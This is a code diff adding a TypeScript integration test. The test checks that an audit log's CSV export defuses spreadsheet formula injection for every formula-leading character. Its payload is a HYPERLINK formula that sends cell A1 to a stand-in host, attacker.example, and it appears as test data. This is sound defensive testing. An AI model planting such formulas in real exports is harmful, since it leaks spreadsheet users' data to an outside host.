@@ -1,0 +1,84 @@
+import { randomUUID } from 'node:crypto';
+import { sql } from 'kysely';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { needs } from '../support/services.js';
+import { startTestLedger, type TestLedger } from '../support/ledger.js';
+
+const skip = needs('postgres').skip || needs('redis').skip;
+
+/**
+ * What a spreadsheet may read as the start of a formula (OWASP, CSV injection): =, +, -, @, tab and carriage return;
+ * a line feed; and the full-width forms of the first four, which some spreadsheets take for the ASCII ones.
+ */
+const LEADING = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
+
+/** RFC 4180: fields separated by commas, quoted when they hold a comma, a quote or a line break. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  const endField = () => {
+    row.push(field);
+    field = '';
+  };
+  for (let i = 0; i < text.length; i++) {
+    const char = text[i]!;
+    if (quoted && char === '"' && text[i + 1] === '"') {
+      field += '"';
+      i++;
+    } else if (char === '"') {
+      quoted = !quoted;
+    } else if (!quoted && char === ',') {
+      endField();
+    } else if (!quoted && char === '\n') {
+      endField();
+      rows.push(row);
+      row = [];
+    } else {
+      field += char;
+    }
+  }
+  return rows;
+}
+
+describe.skipIf(skip)(`the audit export as CSV${skip ? ' (skipped: no postgres or redis)' : ''}`, () => {
+  let ledger: TestLedger;
+  let admin: Awaited<ReturnType<TestLedger['signUp']>>;
+  beforeAll(async () => {
+    ledger = await startTestLedger();
+    admin = await ledger.signUp();
+  });
+  afterAll(() => ledger?.close());
+
+  it('lets no field start a spreadsheet formula', async () => {
+    // Rows as the audit log may hold them from events recorded by any writer: every text field starts with one of them.
+    const payload = (lead: string) => `${lead}HYPERLINK("https://attacker.example/?leak="&A1,"open")`;
+    await ledger.sql((db) =>
+      Promise.all(
+        LEADING.map((lead, i) =>
+          sql`insert into audit_log (tenant_id, position, event_id, stream_id, event_type, actor_id, correlation_id, ip,
+                recorded_at, outcome)
+              values (${admin.tenantId}, ${`99999999999999999999-${String(i).padStart(20, '0')}`}, ${randomUUID()},
+                ${payload(lead)}, ${payload(lead)}, ${payload(lead)}, ${payload(lead)}, ${payload(lead)}, now(),
+                'recorded')`.execute(db),
+        ),
+      ),
+    );
+    const response = await fetch(`${ledger.url}/api/v1/audit/export?format=csv`, {
+      headers: { authorization: `Bearer ${admin.accessToken}` },
+    });
+    expect(response.status).toBe(200);
+    const [header, ...rows] = parseCsv(await response.text());
+    const injected = rows.filter((row) => row[0]!.startsWith('99999999999999999999-'));
+    expect(injected).toHaveLength(LEADING.length);
+    for (const [i, row] of injected.entries()) {
+      for (const column of ['streamId', 'type', 'actorId', 'correlationId', 'ip']) {
+        const cell = row[header!.indexOf(column)]!;
+        expect(cell, `${column} starting with U+${LEADING[i]!.codePointAt(0)!.toString(16)}`).toBe(
+          `'${payload(LEADING[i]!)}`,
+        );
+      }
+    }
+  });
+});
